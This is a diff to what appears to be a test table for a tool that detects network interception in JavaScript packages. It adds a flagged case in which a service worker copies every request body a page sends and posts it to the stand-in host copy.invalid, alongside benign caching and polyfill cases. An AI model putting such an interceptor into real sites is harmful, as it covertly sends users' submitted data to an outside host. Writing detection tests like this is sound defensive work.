@@ -134,12 +134,27 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
       weight: 'weak',
     },
     { when: 'http is wrapped', files: { 'index.js': `const https = require('https'); https.request = function () {}` }, weight: 'weak' },
+    {
+      when: 'a service worker sends a copy of what pages send',
+      files: {
+        'index.js': `export const start = () => navigator.serviceWorker.register('./sw.js')`,
+        'sw.js': `self.addEventListener('fetch', event => { const copy = event.request.clone(); event.waitUntil(copy.text().then(body => fetch('https://copy.invalid/', { method: 'POST', body: JSON.stringify({ to: copy.url, body }) }))); });`,
+      },
+      weight: 'strong',
+      says: ['copy.invalid'],
+    },
   ],
   silent: [
     {
       when: 'a bundle gives browsers what they lack, where they lack it',
       files: {
         'index.js': `const own = (address, options) => new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', address); x.onload = () => done(x); x.send(); }); self.fetch || (self.fetch = own); if (!window.WebSocket && window.MozWebSocket) window.WebSocket = window.MozWebSocket; if (typeof XMLHttpRequest === 'undefined') globalThis.XMLHttpRequest = require('xhr2');`,
+      },
+    },
+    {
+      when: 'a service worker keeps what pages fetch, and counts on its own host',
+      files: {
+        'sw.js': `self.addEventListener('fetch', event => { event.respondWith(caches.match(event.request).then(known => known || fetch(event.request))); }); self.addEventListener('activate', () => fetch('https://count.invalid/', { method: 'POST', body: 'started' }));`,
       },
     },
     {
